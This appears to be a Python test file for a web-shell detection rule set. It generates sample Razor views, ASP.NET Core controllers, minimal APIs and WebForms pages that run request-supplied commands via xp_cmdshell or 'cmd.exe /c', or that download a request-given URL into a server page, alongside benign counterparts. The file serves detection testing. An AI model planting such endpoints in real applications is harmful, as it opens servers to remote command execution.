"""Siblings of first-sight misses in Razor and ASP.NET Core: the shapes X44's harness varied over WebForms, written
as Razor views, Web Pages ``.vbhtml``, MVC controllers, Razor PageModels, minimal APIs and middleware (issue 14,
helper X47).

``bench/webfiles/siblings.py --core`` (``siblings_core.py``) writes 15 seeds whose behaviour exists in Core into
those containers and reads them from Core's request (``Request.Query``, ``Request.Body``, ``Request.Form.Files``,
bound ``[FromQuery]``/``[FromForm]``/... parameters). On main 2dbd80e 246 of 393 were found by nothing
(BENCHMARKS.md, "Siblings in Razor and ASP.NET Core"); the rule changes held here:

- ``EXT_WEBSHELL_SQL_Server_OS_Command``: a Razor view's code (``@{ }`` beside a Razor directive, ``@functions``,
  VB's ``@Code``) is server code: X14's xp_cmdshell page as a view was found by nothing (the rule knew WebForms
  blocks, code-behind classes and handlers only). A PowerShell script whose hashtable starts ``@{`` stays silent;
- ``EXT_WEBSHELL_Core_Endpoint_SQL_OS_Command`` (new, no outcome: a Core source is reported for review): the same
  T-SQL in a controller, PageModel, minimal-API map or inline middleware; a controller reading the xp_cmdshell
  setting and a console tool running it stay silent;
- ``EXT_WEBSHELL_Core_Endpoint_Runs_Shell_Text``: the interpreter's ``"/c " +`` taking the request itself
  (``Request.Query[..]``, ``HttpContext.Request.Form[..]``, ``new StreamReader(Request.Body)``), not only a variable;
  a fixed ``"/c " + "dir"`` and git's ``"-C " + Request.Query[..]`` (no interpreter) stay silent;
- ``EXT_WEBSHELL_Request_URL_Fetched_Into_Server_Page`` (new, no outcome): X13's COM download as Core writes it - an
  ``HttpClient``/``WebClient`` fetch of the URL the request gives, written into a file named as a server page or view.
  A fixed or configured URL written into a view, and a request URL cached as ``.json``, stay silent.

Nothing is compiled or run: the commands and hosts are placeholders, and no page is a copy of a real shell.
"""

from __future__ import annotations

from .rule_tables import RuleCase, quiet_pages_test, rule_tables

_SQL = "EXT_WEBSHELL_SQL_Server_OS_Command"
_CORE_SQL = "EXT_WEBSHELL_Core_Endpoint_SQL_OS_Command"
_CORE_SHELL = "EXT_WEBSHELL_Core_Endpoint_Runs_Shell_Text"
_FETCHED = "EXT_WEBSHELL_Request_URL_Fetched_Into_Server_Page"

_XP = (
    'var c = new SqlConnection("Server=.;Integrated Security=true");\nc.Open();\n'
    'new SqlCommand("exec master..xp_cmdshell \'" + {v} + "\'", c).ExecuteNonQuery();\n'
)
_XP_SETTING = (
    'var c = new SqlConnection("Server=.;Integrated Security=true");\nc.Open();\n'
    "var on = new SqlCommand(\"SELECT value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell'\", c)"
    ".ExecuteScalar();\n"
)
_HTML = "<html><body><pre>done</pre></body></html>\n"


def _view(code: str) -> str:
    return f"@using System.Data.SqlClient\n@{{\n{code}}}\n{_HTML}"


def _controller(code: str, param: str = "string x") -> str:
    return (
        "using System;\nusing System.Data.SqlClient;\nusing Microsoft.AspNetCore.Mvc;\n\n"
        f"public class RunController : Controller\n{{\npublic IActionResult Run({param})\n{{\n{code}"
        'return Content("");\n}\n}\n'
    )


def _program(code: str) -> str:
    return (
        "using System.Data.SqlClient;\n\nvar app = WebApplication.CreateBuilder(args).Build();\n"
        f'app.MapGet("/x", (HttpContext ctx, string x) =>\n{{\n{code}return "";\n}});\napp.Run();\n'
    )


def _shell_controller(arg: str) -> str:
    return (
        "using System.Diagnostics;\nusing System.IO;\nusing Microsoft.AspNetCore.Mvc;\n\n"
        "public class RunController : Controller\n{\npublic IActionResult Run()\n{\n"
        f'var i = new ProcessStartInfo("cmd.exe", {arg}) {{ UseShellExecute = false, RedirectStandardOutput = true }};\n'
        "return Content(Process.Start(i).StandardOutput.ReadToEnd());\n}\n}\n"
    )


def _fetch_view(url: str, target: str = '"wwwroot", "n.cshtml"') -> str:
    return (
        "@using System.IO\n@{\nvar h = new System.Net.Http.HttpClient();\n"
        f"File.WriteAllBytes(Path.Combine(AppContext.BaseDirectory, {target}), h.GetByteArrayAsync({url}).Result);\n}}\n"
        + _HTML
    )


CASES: list[RuleCase] = [
    (
        _SQL,
        [
            ("xp_view_query", ".cshtml", _view(_XP.replace("{v}", 'Request.Query["x"]'))),
            (
                "xp_view_body",
                ".cshtml",
                _view(_XP.replace("{v}", "new StreamReader(Request.Body).ReadToEnd()")),
            ),
            (
                "xp_view_functions",
                ".cshtml",
                "@using System.Data.SqlClient\n@functions {\nvoid Run()\n{\n"
                + _XP.replace("{v}", 'Request.Form["x"]')
                + "}\n}\n@{ Run(); }\n"
                + _HTML,
            ),
            (
                "xp_razor_page_handler",
                ".cshtml",
                "@page\n@using System.Data.SqlClient\n@functions {\npublic void OnGet(string x)\n{\n"
                + _XP.replace("{v}", "x")
                + "}\n}\n"
                + _HTML,
            ),
            (
                "xp_vbhtml",
                ".vbhtml",
                '@Imports System.Data.SqlClient\n@Code\nDim c As New SqlConnection("Server=.;Integrated Security=true")\n'
                'c.Open()\nDim k As New SqlCommand("exec master..xp_cmdshell \'" & Request.QueryString("x") & "\'", c)\n'
                "k.ExecuteNonQuery()\nEnd Code\n" + _HTML,
            ),
        ],
        [
            ("xp_setting_view", ".cshtml", _view(_XP_SETTING)),
            (
                "dba_script_hashtable",
                ".ps1",
                "$c = New-Object System.Data.SqlClient.SqlConnection('Server=.;Integrated Security=true')\n"
                "$c.Open()\n@{ Server = '.'; Job = 'nightly' } | Out-Null\n"
                "$k = New-Object System.Data.SqlClient.SqlCommand(\"EXEC xp_cmdshell 'dir D:\\backup'\", $c)\n"
                "$k.ExecuteNonQuery()\n",
            ),
        ],
    ),
    (
        _CORE_SQL,
        [
            ("xp_controller_bound", ".cs", _controller(_XP.replace("{v}", "x"))),
            ("xp_controller_query", ".cs", _controller(_XP.replace("{v}", 'Request.Query["x"]'), "")),
            ("xp_minimal_api", ".cs", _program(_XP.replace("{v}", "x"))),
            (
                "xp_page_model",
                ".cs",
                "using System.Data.SqlClient;\nusing Microsoft.AspNetCore.Mvc.RazorPages;\n\n"
                "public class RunModel : PageModel\n{\npublic void OnGet(string x)\n{\n"
                + _XP.replace("{v}", "x")
                + "}\n}\n",
            ),
        ],
        [
            ("xp_setting_controller", ".cs", _controller(_XP_SETTING)),
            (
                "xp_console_tool",
                ".cs",
                "using System.Data.SqlClient;\n\nclass Program\n{\nstatic void Main(string[] args)\n{\n"
                + _XP.replace("{v}", "args[0]")
                + "}\n}\n",
            ),
        ],
    ),
    (
        _CORE_SHELL,
        [
            ("cmd_query", ".cs", _shell_controller('"/c " + Request.Query["x"]')),
            ("cmd_httpcontext_form", ".cs", _shell_controller('"/c " + HttpContext.Request.Form["x"]')),
            (
                "cmd_body",
                ".cs",
                _shell_controller('"/c " + new StreamReader(Request.Body).ReadToEndAsync().Result'),
            ),
        ],
        [
            ("cmd_fixed", ".cs", _shell_controller('"/c " + "dir"')),
            (
                "git_repo_query",
                ".cs",
                "using System.Diagnostics;\nusing Microsoft.AspNetCore.Mvc;\n\npublic class GitController : Controller\n"
                '{\npublic IActionResult Status()\n{\nvar i = new ProcessStartInfo("git", "-C " + Request.Query["repo"] '
                '+ " status") { RedirectStandardOutput = true };\n'
                "return Content(Process.Start(i).StandardOutput.ReadToEnd());\n}\n}\n",
            ),
        ],
    ),
]

CASES.append(
    (
        _FETCHED,
        [
            ("fetch_view_query", ".cshtml", _fetch_view('Request.Query["x"]')),
            ("fetch_view_index", ".cshtml", _fetch_view('Request["x"]')),
            (
                "fetch_controller_form",
                ".cs",
                "using System.IO;\nusing Microsoft.AspNetCore.Mvc;\n\npublic class RunController : Controller\n{\n"
                "public IActionResult Run()\n{\nvar h = new System.Net.Http.HttpClient();\n"
                'System.IO.File.WriteAllText(Path.Combine(AppContext.BaseDirectory, "Views", "n.cshtml"), '
                'h.GetStringAsync(HttpContext.Request.Form["x"]).Result);\nreturn Content("");\n}\n}\n',
            ),
            (
                "fetch_page_webclient",
                ".aspx",
                '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e)\n{\n'
                'System.IO.File.WriteAllBytes(Server.MapPath("n.aspx"), new System.Net.WebClient()'
                '.DownloadData(Request.Form["x"]));\n}\n</script>\n',
            ),
        ],
        [
            ("fetch_view_fixed", ".cshtml", _fetch_view('"http://example.invalid/a.txt"')),
            ("fetch_view_setting", ".cshtml", _fetch_view('Configuration["BannerUrl"]')),
            (
                "fetch_view_json_cache",
                ".cshtml",
                _fetch_view('Request.Query["x"]', '"App_Data", "cache.json"'),
            ),
        ],
    )
)

(
    test_sibling_is_found,
    test_ordinary_file_is_not_flagged,
    test_rule_needs_a_server_file,
) = rule_tables(CASES)

#: Ordinary Razor views and Core sources beside them raise nothing at all.
test_ordinary_core_files_raise_nothing = quiet_pages_test(
    [
        ("xp_setting_view_quiet", ".cshtml", _view(_XP_SETTING)),
        ("xp_setting_controller_quiet", ".cs", _controller(_XP_SETTING)),
        ("fetch_view_fixed_quiet", ".cshtml", _fetch_view('"http://example.invalid/a.txt"')),
        ("git_controller_quiet", ".cs", _shell_controller('"/c " + "dir"').replace('"cmd.exe"', '"git.exe"')),
    ]
)
